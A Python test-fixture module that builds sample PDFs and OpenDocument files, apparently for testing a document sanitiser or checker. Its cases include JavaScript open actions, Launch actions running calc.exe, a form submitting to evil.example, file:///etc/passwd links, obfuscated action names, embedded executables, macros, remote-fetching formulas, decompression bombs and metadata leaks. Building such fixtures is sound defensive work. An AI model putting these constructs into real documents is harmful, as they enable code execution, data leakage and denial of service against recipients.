"""Documents as people make them, and as attackers do: real PDFs, OpenDocument files and tables."""

from __future__ import annotations

import io
from collections.abc import Callable, Mapping
from typing import Any
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

from pikepdf import (
    Array,
    AttachedFileSpec,
    Dictionary,
    Encryption,
    Name,
    ObjectStreamMode,
    OutlineItem,
    Pdf,
    Permissions,
    String,
)

from tests.engine.content.reading_site import make_photo
from tests.features.documents.fixture_recordings import RECORDINGS
from tests.features.documents.fixture_written import WRITTEN

Change = Callable[[Pdf], None]
ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"
_SPACES = " ".join(
    f'xmlns:{prefix}="{place}"'
    for prefix, place in {
        "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
        "meta": "urn:oasis:names:tc:opendocument:xmlns:meta:1.0",
        "dc": "http://purl.org/dc/elements/1.1/",
        "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
        "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
        "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
        "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
        "xlink": "http://www.w3.org/1999/xlink",
    }.items()
)
XMP = (
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"'
    ' xmlns:pdfuaid="http://www.aiim.org/pdfua/ns/id/" xmlns:exif="http://ns.adobe.com/exif/1.0/">{}'
    "</rdf:Description></rdf:RDF></x:xmpmeta>"
)


def make_pdf(change: Change | None = None, pages: int = 1, *, accessible: bool = True, **saving: Any) -> bytes:
    """A PDF of some empty pages; ``change`` puts something into it."""
    pdf, target = Pdf.new(), io.BytesIO()
    for _ in range(pages):
        pdf.add_blank_page()
    if accessible:
        pdf.docinfo["/Title"] = "Règlement"
        pdf.Root.Lang = String("fr")
        pdf.Root.MarkInfo = Dictionary(Marked=True)
        pdf.Root.StructTreeRoot = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot))
    if change:
        change(pdf)
    pdf.save(target, fix_metadata_version=False, **(saving or {"deterministic_id": True}))
    return target.getvalue()


def action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **more)


def opening(kind: str, **more: Any) -> Change:
    """The document does something when it is opened."""

    def change(pdf: Pdf) -> None:
        pdf.Root.OpenAction = action(kind, **more)

    return change


def annotated(**keys: Any) -> Change:
    """Add an annotation to the first page."""

    def change(pdf: Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9], **keys)
        pdf.pages[0].Annots = Array([pdf.make_indirect(note)])

    return change


def rooted(**keys: Any) -> Change:
    """Add an entry to the root."""

    def change(pdf: Pdf) -> None:
        for key, value in keys.items():
            pdf.Root[f"/{key}"] = value

    return change


def informed(**lines: str) -> Change:
    """The document has lines of information."""

    def change(pdf: Pdf) -> None:
        for key, value in lines.items():
            pdf.docinfo[f"/{key}"] = value

    return change


def nested(depth: int) -> Array:
    found = Array([Name.JS])
    for _ in range(depth):
        found = Array([found])
    return found


def packed(text: str, before: str = "") -> Change:
    """The document has a packet of XMP."""

    def change(pdf: Pdf) -> None:
        pdf.Root.Metadata = pdf.make_stream((before + XMP.format(text)).encode(), Type=Name.Metadata, Subtype=Name.XML)

    return change


def attached(pdf: Pdf) -> None:
    pdf.attachments["a.exe"] = AttachedFileSpec(pdf, b"MZ", filename="a.exe")


def named_program(pdf: Pdf) -> None:
    tree = Dictionary(Names=Array([String("x"), action("JavaScript", JS="app.alert(1)")]))
    pdf.Root.Names = Dictionary(JavaScript=pdf.make_indirect(tree))


def field_program(pdf: Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T="a", AA=Dictionary(K=action("JavaScript", JS=pdf.make_stream(b"app.alert(1)"))))
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]))


def page_program(pdf: Pdf) -> None:
    pdf.pages[0].AA = Dictionary(O=action("JavaScript", JS="app.alert(1)"))


def chained_program(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([action("JavaScript", JS="app.alert(1)")])
    )


def lonely_launch(pdf: Pdf) -> None:
    """An action to which nothing leads yet, with its kind apart."""
    kind = pdf.make_indirect(Name.Launch)
    pdf.Root.Hidden = pdf.make_indirect(Dictionary(S=kind, F="calc.exe"))


def outlined(pdf: Pdf) -> None:
    with pdf.open_outline() as outline:
        outline.root.append(OutlineItem("x", action=action("Launch", F="calc.exe")))


def outside_stream(pdf: Pdf) -> None:
    pdf.Root.Hidden = pdf.make_stream(b"", F=String("/etc/passwd"))


def pictured(**told: Any) -> Change:
    """A photo on the page, with its EXIF."""

    def change(pdf: Pdf) -> None:
        data = make_photo(".jpg", 8, 8, **told)
        keys = {"Width": 8, "Height": 8, "ColorSpace": Name.DeviceGray, "BitsPerComponent": 8}
        photo = pdf.make_stream(data, Type=Name.XObject, Subtype=Name.Image, Filter=Name.DCTDecode, **keys)
        pdf.pages[0].Resources = Dictionary(XObject=Dictionary(P=photo))

    return change


def signed(pdf: Pdf) -> None:
    informed(Author="Léa")(pdf)
    value = Dictionary(Type=Name.Sig, ByteRange=[0, 1, 2, 3], Contents=String("x"))
    field = Dictionary(FT=Name.Sig, T="s", V=pdf.make_indirect(value))
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]), SigFlags=3)


def changed_later(data: bytes, more: bytes) -> bytes:
    """Change a file as programs do: new objects behind its end, then the same table of objects again."""
    return data + more + data[data.rindex(b"startxref") :]


def locked(password: str = "") -> bytes:
    return make_pdf(encryption=Encryption(owner="o", user=password, allow=Permissions()))


def make_office(
    suffix: str = ".odt", content: str = "", meta: str = "", entries: Mapping[str, bytes] | None = None
) -> bytes:
    """Make an OpenDocument file: its text, its metadata, more entries."""
    kind, target = ODT if suffix == ".odt" else ODS, io.BytesIO()
    files = {
        "content.xml": f"<office:document-content {_SPACES}>{content}</office:document-content>",
        "meta.xml": f"<office:document-meta {_SPACES}><office:meta><dc:title>Règlement</dc:title>{meta}"
        '<meta:document-statistic meta:page-count="3"/></office:meta></office:document-meta>',
        "META-INF/manifest.xml": "<manifest/>",
    }
    with ZipFile(target, "w") as archive:
        archive.writestr(ZipInfo("mimetype"), kind, ZIP_STORED)  # dated 1980: the same bytes each time
        for name, data in {**{name: text.encode() for name, text in files.items()}, **(entries or {})}.items():
            archive.writestr(ZipInfo(name), data, ZIP_DEFLATED)
    return target.getvalue()


MADE: dict[str, Callable[[], bytes]] = {
    "plain": make_pdf,
    "bare": lambda: make_pdf(accessible=False),
    "opening program": lambda: make_pdf(opening("JavaScript", JS="app.alert(1)")),
    "named program": lambda: make_pdf(named_program),
    "program of a field": lambda: make_pdf(field_program),
    "program of a page": lambda: make_pdf(page_program),
    "program after a jump": lambda: make_pdf(chained_program),
    "program of a link": lambda: make_pdf(annotated(Subtype=Name.Link, A=action("JavaScript", JS="x()"))),
    "spelt program": lambda: make_pdf(opening("JavaScript__")).replace(b"/JavaScript__", b"/J#61vaScript"),
    "packed program": lambda: make_pdf(page_program, object_stream_mode=ObjectStreamMode.generate),
    "launch": lambda: make_pdf(opening("Launch", F="calc.exe")),
    "launch from the outline": lambda: make_pdf(outlined),
    "launch that nothing leads to": lambda: make_pdf(lonely_launch),
    "another file": lambda: make_pdf(opening("GoToR", F="other.pdf", D=String("x"))),
    "an embedded page": lambda: make_pdf(opening("GoToE", D=String("x"))),
    "sent form": lambda: make_pdf(opening("SubmitForm", F="https://evil.example/")),
    "imported data": lambda: make_pdf(opening("ImportData", F="x.fdf")),
    "attached file": lambda: make_pdf(attached),
    "pinned file": lambda: make_pdf(annotated(Subtype=Name.FileAttachment)),
    "portfolio": lambda: make_pdf(rooted(Collection=Dictionary(Type=Name.Collection))),
    "rich media": lambda: make_pdf(annotated(Subtype=Name.RichMedia)),
    "3D model": lambda: make_pdf(annotated(Subtype=Name("/3D"))),
    "film": lambda: make_pdf(opening("Rendition", OP=0)),
    "XFA form": lambda: make_pdf(rooted(AcroForm=Dictionary(XFA=Array([])))),
    "script link": lambda: make_pdf(annotated(Subtype=Name.Link, A=action("URI", URI="javascript:alert(1)"))),
    "file link": lambda: make_pdf(annotated(Subtype=Name.Link, A=action("URI", URI="file:///etc/passwd"))),
    "web link": lambda: make_pdf(annotated(Subtype=Name.Link, A=action("URI", URI="https://a.example/"))),
    "bytes of another file": lambda: make_pdf(outside_stream),
    "encrypted": locked,
    "password": lambda: locked("secret"),
    "page of the web": lambda: b"<html><script>alert(1)</script>",
    "behind something": lambda: b"MZ" + make_pdf(),
    "cut": lambda: make_pdf()[:-60],
    "no page": lambda: make_pdf(pages=0),
    "deep": lambda: make_pdf(rooted(Hidden=nested(200))),
    "author": lambda: make_pdf(informed(Author="Léa Montel")),
    "path": lambda: make_pdf(informed(Title="C:\\Users\\lea\\reglement.docx")),
    "company": lambda: make_pdf(informed(Company="Mairie")),
    "author in XMP": lambda: make_pdf(packed("<dc:creator><rdf:Seq><rdf:li>Léa</rdf:li></rdf:Seq></dc:creator>")),
    "broken XMP": lambda: make_pdf(packed("<dc:creator>")),
    "XMP that declares": lambda: make_pdf(packed("", "<!DOCTYPE x [<!ENTITY a 'b'>]>")),
    "position": lambda: make_pdf(pictured(gps=True)),
    "comment": lambda: make_pdf(annotated(Subtype=Name.Text, T="Léa Montel", Contents="Non.")),
    "notes of a program": lambda: make_pdf(rooted(PieceInfo=Dictionary(Word=Dictionary(Private="x")))),
    "earlier version": lambda: changed_later(make_pdf(), b"99 0 obj\nnull\nendobj\n"),
    "bytes behind its end": lambda: make_pdf() + b"PK\3\4 anything",
    "bytes between two ends": lambda: make_pdf() + b"anything" * 99 + b"%%EOF\n",
    "hybrid": lambda: changed_later(make_pdf(), b""),
    "signed": lambda: make_pdf(signed),
    "text": make_office,
    "table": lambda: make_office(".ods"),
    "macro": lambda: make_office(entries={"Basic/Standard/x.xml": b"<a/>"}),
    "script": lambda: make_office(entries={"Scripts/python/a.py": b""}),
    "listener": lambda: make_office(content='<script:event-listener xlink:href="vnd.sun.star.script:x"/>'),
    "macro link": lambda: make_office(content='<text:a xlink:href="vnd.sun.star.script:x">a</text:a>'),
    "OLE": lambda: make_office(content='<draw:object-ole xlink:href="./Object 1"/>'),
    "OLE bytes": lambda: make_office(entries={"Object 1/content.xml": b"<a/>", "Pictures/a.png": b"\xd0\xcf\x11\xe0"}),
    "program inside": lambda: make_office(entries={"a.exe": b"MZ"}),
    "remote picture": lambda: make_office(content='<draw:image xlink:href="https://evil.example/a.png"/>'),
    "picture above": lambda: make_office(content='<draw:image xlink:href="../../a.png"/>'),
    "remote table": lambda: make_office(".ods", '<table:table-source xlink:href="https://evil.example/"/>'),
    "fetching formula": lambda: make_office(".ods", '<table:table-cell table:formula="of:=WEBSERVICE(1)"/>'),
    "own picture": lambda: make_office(content='<draw:image xlink:href="Pictures/a.png"/>'),
    "followed link": lambda: make_office(content='<text:a xlink:href="https://a.example/">a</text:a>'),
    "unfolding": lambda: make_office(entries={"Pictures/a.png": bytes(70_000_000)}),
    "many entries": lambda: make_office(entries={f"Pictures/{n}.png": b"" for n in range(2_001)}),
    "declaring": lambda: make_office(entries={"styles.xml": b"<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}),
    "no archive": lambda: b"PK\x03\x04 and no more",
    "creator": lambda: make_office(meta="<meta:initial-creator>Léa</meta:initial-creator><dc:creator>Léa</dc:creator>"),
    "template": lambda: make_office(meta='<meta:template xlink:href="file:///C:/Documents/lea/a.ott"/>'),
    "commented": lambda: make_office(content="<office:annotation><dc:creator>Léa</dc:creator></office:annotation>"),
    "old versions": lambda: make_office(entries={"Versions/1": b"x"}),
    "office photo": lambda: make_office(entries={"Pictures/a.jpg": make_photo(".jpg", 8, 8, gps=True)}),
    **WRITTEN,
    **RECORDINGS,
}
"""Each document that the tables of cases name."""
